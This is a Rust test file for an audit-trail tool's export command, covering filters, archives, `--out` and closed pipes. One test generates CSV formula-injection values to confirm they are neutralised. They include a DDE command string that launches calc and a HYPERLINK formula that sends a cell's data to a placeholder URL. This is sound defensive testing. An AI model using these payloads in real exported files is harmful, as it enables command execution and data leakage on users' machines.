//! Exports: filters, archived files as part of the history, `export --out` and
//! closed pipes (SPEC §12).

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::fixtures::*;
use crate::support::harness::*;

// Filters

#[test]
fn export_filters_select_exactly() {
    let env = Env::with_config("host_name = \"pbx01\"\nevent_mask = \"all\"\n");
    let records: [&[&str]; 6] = [
        &["--time", "2026-03-01T10:00:00+01:00", "--tenant", "Acme", "--app", "System Admin Tool"],
        &["--time", "2026-03-01T23:30:00Z", "--tenant", "Acme", "--app", "System Admin Tool 2"],
        &["--time", "2026-03-02T12:00:00+01:00", "--tenant", "Globex", "--app", "Attendant Console"],
        &["--time", "2026-03-03T00:00:00+01:00", "--app", "system admin tool"],
        &["--time", "2026-03-04T08:00:00-05:00", "--tenant", "ACME", "--app", "Attendant Console"],
        &["--time", "2026-03-02T23:59:59.999+01:00", "--tenant", "Acme Corp", "--app", "Provisioning"],
    ];
    let more: [&[&str]; 6] = [
        &["--user", "alice", "--action", "Login", "--category", "presence"],
        &["--user", "bob", "--action", "Login failure", "--category", "failure"],
        &["--user", "Alice", "--action", "Logout", "--category", "presence"],
        &["--user", "alice smith", "--action", "login", "--category", "Config"],
        &["--action", "Change", "--category", "config"],
        &["--user", "carol", "--action", "Add", "--category", "modify"],
    ];
    for (k, (a, b)) in records.iter().zip(&more).enumerate() {
        let mut args = vec!["append"];
        args.extend_from_slice(a);
        args.extend_from_slice(b);
        let run = env.run(&args).success();
        assert_eq!(run.stdout.trim(), (k + 1).to_string());
    }

    let cases: &[(&[&str], &[u64])] = &[
        (&[], &[1, 2, 3, 4, 5, 6]),
        // Dates are local days (Europe/Paris): record 2 is 00:30 on the 2nd there.
        (&["--from", "2026-03-02", "--to", "2026-03-02"], &[2, 3, 6]),
        (&["--to", "2026-03-02"], &[1, 2, 3, 6]),
        (&["--from", "2026-03-03"], &[4, 5]),
        (&["--to", "2026-03-01"], &[1]),
        // RFC 3339 bounds are inclusive.
        (&["--from", "2026-03-01T22:30:00Z", "--to", "2026-03-02T11:00:00Z"], &[2, 3]),
        (&["--from", "2026-03-02T00:30:00+01:00", "--to", "2026-03-02T00:30:00+01:00"], &[2]),
        (&["--from", "2026-03-02T23:59:59.999+01:00"], &[4, 5, 6]),
        (&["--from", "2026-03-04T13:00:00Z"], &[5]),
        (&["--to", "2026-03-01T09:59:59.999Z"], &[1]),
        (&["--to", "2026-03-01T08:59:59.999Z"], &[]),
        // Local date-time form.
        (&["--from", "2026-03-03 00:00:00"], &[4, 5]),
        // Text filters: whole value, any case.
        (&["--tenant", "acme"], &[1, 2, 5]),
        (&["--tenant", "ACME CORP"], &[6]),
        (&["--app", "system admin tool"], &[1, 4]),
        (&["--app", "Attendant Console"], &[3, 5]),
        (&["--user", "alice"], &[1, 3]),
        (&["--user", "Alice Smith"], &[4]),
        (&["--user", "nobody"], &[]),
        (&["--action", "login"], &[1, 4]),
        (&["--action", "LOGIN FAILURE"], &[2]),
        (&["--category", "config"], &[4, 5]),
        (&["--category", "Presence"], &[1, 3]),
        // Filters combine.
        (&["--tenant", "acme", "--category", "presence"], &[1]),
        (&["--app", "attendant console", "--from", "2026-03-03"], &[5]),
        (&["--user", "alice", "--to", "2026-03-01"], &[1]),
    ];
    for (args, want) in cases {
        assert_eq!(export_ids(&env, args), *want, "export {args:?}");
        let mut all = vec!["--all"];
        all.extend_from_slice(args);
        assert_eq!(export_ids(&env, &all), *want, "export --all {args:?}");
    }
    // The filter applies to every format.
    let csv = env.run(&["export", "--format", "csv", "--tenant", "acme"]).success();
    let path = env.dir.path().join("f.csv");
    std::fs::write(&path, &csv.stdout).unwrap();
    let rows = csv_rows(&path);
    let got: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(got, ["1", "2", "5"]);
    let xml = env.run(&["export", "--format", "xml", "--user", "alice"]).success();
    assert_eq!(xml_doc_bytes(xml.stdout.as_bytes()).ids(), [1, 3]);

    // Bad bounds are clear errors.
    let run = env.run(&["export", "--format", "json", "--from", "2026-03-03", "--to", "2026-03-02"]).failure();
    assert!(run.stderr.contains("--from") && run.stderr.contains("--to"), "{}", run.stderr);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    let run = env.run(&["export", "--format", "json", "--from", "yesterday"]).failure();
    assert!(run.stderr.contains("--from") && run.stderr.contains("yesterday"), "{}", run.stderr);
    let run = env.run(&["export", "--format", "csv", "--to", "2026-13-45"]).failure();
    assert!(run.stderr.contains("--to"), "{}", run.stderr);
    assert!(run.stdout.is_empty(), "no partial output on a bad filter: {}", run.stdout);
}

/// SPEC §8 says CSV is RFC 4180, whose records end with CRLF (§2.1).
#[test]
fn csv_export_ends_records_with_crlf() {
    let env = Env::new();
    env.run_with_input(&["append", "--json", "-"], &json_records(3)).success();
    let csv = env.run(&["export", "--format", "csv"]).success().stdout;
    let lines: Vec<&str> = csv.split_inclusive('\n').collect();
    assert_eq!(lines.len(), 4, "{csv:?}");
    assert!(lines.iter().all(|l| l.ends_with("\r\n")), "records must end with CRLF: {csv:?}");
}

/// Random hostile values (formula starts, separators, quotes, control and
/// full-width characters, made by python3 from a seed it prints) go through
/// the CSV export; python3's csv module reads the file back. By default no
/// cell may start with a character a spreadsheet runs as a formula, every
/// cell but a number (the id) is quoted, and a neutralised cell is the value behind one `'`; with
/// `--csv-raw` every cell is the exact value. JSON stays exact either way.
#[test]
fn csv_export_never_hands_a_spreadsheet_a_formula() {
    let env = Env::new();
    let generator = r#"
import json, random, sys
seed = random.randrange(1 << 32); random.seed(seed); print(seed, file=sys.stderr)
starts = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'", '"', " ", ";", ",", "|", ""]
parts = ["1+1", "HYPERLINK(\"http://x/?\"&A2,\"y\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", ";=2+2", ",=3", "\t=4",
         "\"=5", "\r\n-6", "a", "\u00e9", "\U0001f600", "\x00", "\x1b", "\x7f", "\u0085", "\u2028", " "]
fields = ["user_name", "first_name", "last_name", "tenant", "node", "app_name", "app_context", "action_type",
          "action_data", "category", "auth_type", "session_id", "detail_level"]
for i in range(300):
    rec = {}
    for f in fields:
        if random.random() < 0.8:
            v = random.choice(starts) + "".join(random.choice(parts) for _ in range(random.randrange(4)))
            if v.strip():
                rec[f] = v
    rec.setdefault("app_name", "=App"); rec.setdefault("action_type", "+Act")
    print(json.dumps(rec))
"#;
    let input = python(generator, &[], b"");
    env.run_with_input(&["append", "--json", "-"], input.as_bytes()).success();
    let json = env.run(&["export", "--format", "json"]).success().stdout;
    let safe = env.dir.path().join("safe.csv");
    let raw = env.dir.path().join("raw.csv");
    let exact = env.dir.path().join("exact.jsonl");
    std::fs::write(&exact, &json).unwrap();
    env.run(&["export", "--format", "csv", "--out", safe.to_str().unwrap()]).success();
    env.run(&["export", "--format", "csv", "--csv-raw", "--out", raw.to_str().unwrap()]).success();
    let run = env.run(&["export", "--format", "json", "--csv-raw"]).failure();
    assert!(run.stderr.contains("--csv-raw"), "{}", run.stderr);
    let check = r#"
import csv, json, sys
safe, raw, exact = sys.argv[1:4]
formula = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
records = [json.loads(l) for l in open(exact, encoding="utf-8")]
def rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f, strict=True))
s, r = rows(safe), rows(raw)
assert len(s) == len(r) == len(records) + 1, (len(s), len(r), len(records))
header = s[0]
assert header == r[0]
starts = 0
for rec, srow, rrow in zip(records, s[1:], r[1:]):
    assert len(srow) == len(rrow) == len(header), srow
    for name, sv, rv in zip(header, srow, rrow):
        want = str(rec.get(name, ""))
        assert rv == want, ("--csv-raw", rec["id"], name, rv, want)
        assert not sv.startswith(formula), ("formula cell", rec["id"], name, sv)
        if want.startswith(formula):
            starts += 1
            assert sv == "'" + want, (rec["id"], name, sv, want)
        else:
            assert sv == want, (rec["id"], name, sv, want)
assert starts > 300, starts
# Every cell of the default export that is not a plain number is quoted: a
# spreadsheet that splits on ';' or tab still sees one cell per value.
text = open(safe, encoding="utf-8", newline="").read()
i, cells = 0, 0
while i < len(text):
    if text[i] == '"':
        i += 1
        while True:
            j = text.index('"', i)
            if text[j + 1:j + 2] == '"':
                i = j + 2
            else:
                i = j + 1
                break
    else:
        j = i
        while text[j] not in ",\r":
            j += 1
        cell = text[i:j]
        try:
            float(cell)
        except ValueError:
            raise AssertionError(("unquoted cell that is not a number", text[i:i + 40]))
        i = j
    cells += 1
    assert text[i:i + 1] == "," or text[i:i + 2] == "\r\n", text[i:i + 40]
    i += 1 if text[i] == "," else 2
assert cells == len(s) * len(header), (cells, len(s))
print(starts)
"#;
    let out = python(check, &[&safe, &raw, &exact], b"");
    assert!(out.trim().parse::<u32>().is_ok(), "{out}");
}

// Archived (.xml.gz) files are part of the history

/// Compresses a sealed file into archive/<name>.xml.gz, and removes the plain
/// one when `remove`.
fn gzip_into_archive(env: &Env, sealed: &Path, remove: bool) -> PathBuf {
    let stem = file_name(sealed).strip_suffix(".xml").unwrap().to_owned();
    let archive = env.data.join("archive");
    std::fs::create_dir_all(&archive).unwrap();
    let gz = archive.join(format!("{stem}.xml.gz"));
    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::default());
    enc.write_all(&std::fs::read(sealed).unwrap()).unwrap();
    enc.finish().unwrap().sync_all().unwrap();
    if remove {
        std::fs::remove_file(sealed).unwrap();
    }
    gz
}

#[test]
fn export_all_and_verify_read_gzipped_archive() {
    let env = Env::with_capacity(4);
    env.run_with_input(&["append", "--json", "-"], &json_records(10)).success();
    let sealed = env.sealed_files();
    assert_eq!(sealed.len(), 2);

    // The archive job's state between writing the .gz and removing the
    // plain file: both exist, and each record is still read once.
    let gz = gzip_into_archive(&env, &sealed[0], false);
    assert_eq!(export_ids(&env, &["--all"]), range(1, 10));
    let v = env.run(&["verify"]).success();
    assert!(v.stdout.contains("10 records"), "{}", v.stdout);

    std::fs::remove_file(&sealed[0]).unwrap();
    // Make sure it really is gzip (read it back independently).
    let mut text = String::new();
    flate2::read::GzDecoder::new(std::fs::File::open(&gz).unwrap()).read_to_string(&mut text).unwrap();
    assert!(text.contains("<Record id=\"1\">"));
    assert_eq!(env.sealed_files().len(), 1);

    let all = export_json(&env, &["--all"]);
    assert_eq!(ids(&all), range(1, 10));
    for r in &all {
        assert_eq!(r["action_data"], format!("record {}", r["id"].as_u64().unwrap() - 1));
    }
    let v = env.run(&["verify"]).success();
    assert!(v.stdout.contains("10 records"), "{}", v.stdout);
    let st = status(&env);
    assert_eq!((st["archived_files"].as_u64(), st["sealed_files"].as_u64()), (Some(1), Some(1)), "{st}");
    assert_eq!(st["next_id"], 11);

    // Both sealed files archived; the log goes on.
    gzip_into_archive(&env, &sealed[1], true);
    assert!(env.sealed_files().is_empty());
    assert_eq!(export_ids(&env, &["--all"]), range(1, 10));
    env.run(&["verify"]).success();
    env.run_with_input(&["append", "--json", "-"], &json_records(3)).success();
    assert_eq!(export_ids(&env, &["--all"]), range(1, 13));
    assert_eq!(export_ids(&env, &[]), range(10, 13));
    let v = env.run(&["verify"]).success();
    assert!(v.stdout.contains("13 records"), "{}", v.stdout);
    // verify PATH accepts the compressed file too.
    let v = env.run(&["verify", gz.to_str().unwrap()]).success();
    assert!(v.stdout.contains("4 records"), "{}", v.stdout);
}

// export --out, and closed pipes

#[test]
fn export_out_writes_whole_file_or_nothing() {
    let env = Env::new();
    env.run_with_input(&["append", "--json", "-"], &json_records(3000)).success();
    let dir = env.dir.path().join("exports");
    std::fs::create_dir(&dir).unwrap();

    for format in ["json", "csv"] {
        let path = dir.join(format!("all.{format}"));
        let run = env.run(&["export", "--all", "--format", format, "--out", path.to_str().unwrap()]).success();
        assert!(run.stdout.is_empty(), "--out writes nothing to stdout: {}", run.stdout.len());
        assert!(has_token(&run.stderr, "3000"), "the count goes to stderr: {}", run.stderr);
        let stdout = env.run(&["export", "--all", "--format", format]).success().stdout;
        assert_eq!(std::fs::read_to_string(&path).unwrap(), stdout, "{format}: file differs from stdout");
    }
    let names: Vec<String> =
        std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(names.len(), 2, "no temporary files left: {names:?}");

    // A directory that does not exist.
    let missing = env.dir.path().join("missing");
    let run =
        env.run(&["export", "--all", "--format", "json", "--out", missing.join("x.json").to_str().unwrap()]).failure();
    assert!(run.stderr.contains("missing"), "{}", run.stderr);
    assert!(!missing.exists());

    // A read-only directory (only meaningful when not running as root).
    let ro = env.dir.path().join("ro");
    std::fs::create_dir(&ro).unwrap();
    let mut perms = std::fs::metadata(&ro).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o555);
    std::fs::set_permissions(&ro, perms).unwrap();
    let probe_ok = std::fs::write(ro.join("probe"), b"").is_ok();
    if probe_ok {
        std::fs::remove_file(ro.join("probe")).unwrap();
    } else {
        let run =
            env.run(&["export", "--all", "--format", "json", "--out", ro.join("x.json").to_str().unwrap()]).failure();
        assert!(run.stderr.contains("ro"), "{}", run.stderr);
        assert_eq!(std::fs::read_dir(&ro).unwrap().count(), 0, "nothing left in the read-only directory");
    }
    // A directory nobody can create files in, root included.
    let run =
        env.run(&["export", "--all", "--format", "json", "--out", "/proc/self/audit-trail-export.json"]).failure();
    assert!(run.stderr.contains("/proc/self"), "{}", run.stderr);
}

/// A read error half-way through (a damaged sealed file) fails the export and
/// leaves no file behind.
#[test]
fn export_out_failing_midway_leaves_nothing() {
    let env = Env::with_capacity(1000);
    env.run_with_input(&["append", "--json", "-"], &json_records(3000)).success();
    let sealed = env.sealed_files();
    assert_eq!(sealed.len(), 2);
    let bytes = std::fs::read(&sealed[1]).unwrap();
    std::fs::write(&sealed[1], &bytes[..bytes.len() / 2]).unwrap();
    let dir = env.dir.path().join("exports");
    std::fs::create_dir(&dir).unwrap();
    for format in ["json", "csv", "xml"] {
        let out = dir.join(format!("all.{format}"));
        let run = env.run(&["export", "--all", "--format", format, "--out", out.to_str().unwrap()]).failure();
        assert!(run.stderr.contains(&file_name(&sealed[1])), "{format}: should name the damaged file: {}", run.stderr);
        let names: Vec<String> =
            std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
        assert!(names.is_empty(), "{format}: a failed export left {names:?}");
        // To stdout it fails too (what was written cannot be taken back).
        let run = env.run(&["export", "--all", "--format", format]).failure();
        assert!(run.stderr.contains(&file_name(&sealed[1])), "{format}: {}", run.stderr);
    }
}

/// `--out` names an existing directory: creating the temporary file works but
/// the final rename fails. Nothing may be left behind.
#[test]
fn export_out_failed_rename_leaves_no_partial_file() {
    let env = Env::new();
    env.run_with_input(&["append", "--json", "-"], &json_records(10)).success();
    let dir = env.dir.path().join("exports");
    let taken = dir.join("taken");
    std::fs::create_dir_all(&taken).unwrap();
    std::fs::write(taken.join("keep"), b"x").unwrap();
    let run = env.run(&["export", "--all", "--format", "json", "--out", taken.to_str().unwrap()]).failure();
    assert!(run.stderr.contains("taken"), "{}", run.stderr);
    let names: Vec<String> =
        std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(names, ["taken"], "a failed export left files behind");
}

#[test]
fn export_to_closed_pipe_exits_zero() {
    let env = Env::new();
    // Far more than a pipe buffer of output.
    env.run_with_input(&["append", "--json", "-"], &json_records(3000)).success();
    for format in ["json", "csv", "xml"] {
        let out = Command::new("sh")
            .arg("-c")
            .arg(r#"{ "$0" --data-dir "$1" export --all --format "$2"; echo "exit=$?" >&2; } | head -1"#)
            .arg(BIN)
            .arg(&env.data)
            .arg(format)
            .env("TZ", "Europe/Paris")
            .env_remove("AUDIT_TRAIL_DATA")
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stdout.lines().count(), 1, "{format}: head -1 output: {stdout}");
        assert!(stderr.contains("exit=0"), "{format}: export should exit 0 on a closed pipe: {stderr}");
        assert!(!stderr.contains("error"), "{format}: a closed pipe is not an error: {stderr}");
    }
}
